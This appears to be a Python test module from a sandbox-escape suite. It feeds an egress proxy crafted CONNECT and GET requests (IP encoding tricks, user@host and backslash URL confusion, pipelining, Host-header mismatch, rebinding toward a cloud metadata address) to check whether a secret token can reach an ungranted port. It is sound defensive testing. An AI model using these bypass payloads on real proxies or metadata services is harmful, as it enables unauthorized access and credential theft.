"""Requests by which a proxy might be talked into another address than the one granted.

In the sandbox they go to the proxy that `http_proxy` names; bare there is none, and the host is
simply connected to.
"""

import socket
from pathlib import Path

from failonce.model import Args
from tests.escape.arena import METADATA
from tests.escape.attack import Arena, Attack, Family, Grants, heard, needs_root

WANTED, OTHER = 4120, 4121
_SOURCE = """
def attack(token, requests, straight):
    import os, socket, urllib.parse
    proxy = os.environ.get("http_proxy")
    if proxy is None:
        with socket.create_connection(tuple(straight), 1) as door:
            door.sendall(token.encode())
        return
    where = urllib.parse.urlsplit(proxy)
    for request in requests:
        with socket.create_connection((where.hostname, where.port), 1) as door:
            door.settimeout(0.5)
            for part in request:
                try:
                    door.sendall(part.replace("TOKEN", token).encode("latin-1"))
                    door.recv(1000)
                except OSError:
                    pass
"""


def _doors(*hears: tuple[str, int]) -> object:
    def bait(arena: Arena) -> None:
        for where in hears:
            door = socket.socket()
            door.bind(where)
            arena.listen(door)
        quiet = socket.socket()
        quiet.bind(("127.0.0.1", WANTED))
        quiet.listen()
        arena.keep(quiet)

    return bait


def _asks(name: str, *parts: str) -> Attack:
    """All in one connection, one part after the other."""

    def bait(arena: Arena) -> Args:
        _doors(("127.0.0.1", OTHER))(arena)  # type: ignore[operator]
        requests = [[p.replace("\n", "\r\n") for p in parts] + ["TOKEN"]]
        return {"token": arena.secret, "requests": requests, "straight": ["127.0.0.1", OTHER]}

    return Attack(
        name=f"asks the proxy {name}",
        family=Family.NETWORK,
        source=_SOURCE,
        bait=bait,
        grants=Grants(network=(f"127.0.0.1:{WANTED}",)),
        reached=heard,
    )


def _named(name: str, granted: str, leads_to: str, port: int) -> Attack:
    """A granted name that leads where no name may lead."""

    def bait(arena: Arena) -> Args:
        _doors((leads_to, port))(arena)  # type: ignore[operator]
        if arena.root:
            with Path("/etc/hosts").open("a") as hosts:
                hosts.write(f"{leads_to} shop.example\n")
        requests = [[f"CONNECT {granted}:{port} HTTP/1.1\r\n\r\n", "TOKEN"]]
        return {"token": arena.secret, "requests": requests, "straight": [leads_to, port]}

    return Attack(
        name=name,
        family=Family.NETWORK,
        source=_SOURCE,
        bait=bait,
        grants=Grants(network=(f"{granted}:{port}",)),
        reached=heard,
        hindered=(lambda _: "") if granted == "localhost" else needs_root,
    )


_HERE = f"127.0.0.1:{WANTED}"

ATTACKS = (
    _asks("for another port", f"CONNECT 127.0.0.1:{OTHER} HTTP/1.1\n\n"),
    _asks("for another port than the first", f"GET http://127.0.0.1:{OTHER}/TOKEN HTTP/1.1\n\n"),
    _asks("with a user who looks like a host", f"CONNECT {_HERE}@127.0.0.1:{OTHER} HTTP/1.1\n\n"),
    _asks("for a page by such a user", f"GET http://{_HERE}@127.0.0.1:{OTHER}/TOKEN HTTP/1.1\n\n"),
    _asks("with two hosts", f"CONNECT 127.0.0.1:{OTHER},{_HERE} HTTP/1.1\n\n"),
    _asks("with a number of a port beyond all", f"CONNECT 127.0.0.1:{OTHER + 65536} HTTP/1.1\n\n"),
    _asks("with the address as one number", f"CONNECT 2130706433:{OTHER} HTTP/1.1\n\n"),
    _asks("with the address in hexadecimal", f"CONNECT 0x7f.0.0.1:{OTHER} HTTP/1.1\n\n"),
    _asks("with the address in short", f"CONNECT 127.1:{OTHER} HTTP/1.1\n\n"),
    _asks("with the address within another", f"CONNECT [::ffff:127.0.0.1]:{OTHER} HTTP/1.1\n\n"),
    _asks("for every address", f"CONNECT 0.0.0.0:{OTHER} HTTP/1.1\n\n"),
    _asks(
        "twice within one connection",
        f"CONNECT {_HERE} HTTP/1.1\n\n",
        f"CONNECT 127.0.0.1:{OTHER} HTTP/1.1\n\n",
    ),
    _asks(
        "for two pages at once",
        f"GET http://{_HERE}/ HTTP/1.1\n\nGET http://127.0.0.1:{OTHER}/TOKEN HTTP/1.1\n\n",
    ),
    _asks(
        "for one host, and says another",
        f"GET http://127.0.0.1:{OTHER}/TOKEN HTTP/1.1\nHost: {_HERE}\n\n",
    ),
    _asks("with a bare path", f"GET //127.0.0.1:{OTHER}/TOKEN HTTP/1.1\nHost: 127.0.0.1\n\n"),
    _asks("with a backslash", f"GET http://127.0.0.1:{OTHER}\\@{_HERE}/TOKEN HTTP/1.1\n\n"),
    _asks("with a hash", f"GET http://127.0.0.1:{OTHER}#@{_HERE}/TOKEN HTTP/1.1\n\n"),
    _asks("with a space", f"CONNECT 127.0.0.1:{OTHER} {_HERE} HTTP/1.1\n\n"),
    _asks("in another protocol", f"GET ftp://127.0.0.1:{OTHER}/TOKEN HTTP/1.1\n\n"),
    _named("was granted this very machine by a name", "localhost", "127.0.0.1", OTHER),
    _named("was granted a name that became this machine", "shop.example", "127.0.0.1", OTHER),
    _named("was granted a name that became the cloud's", "shop.example", METADATA, 80),
)
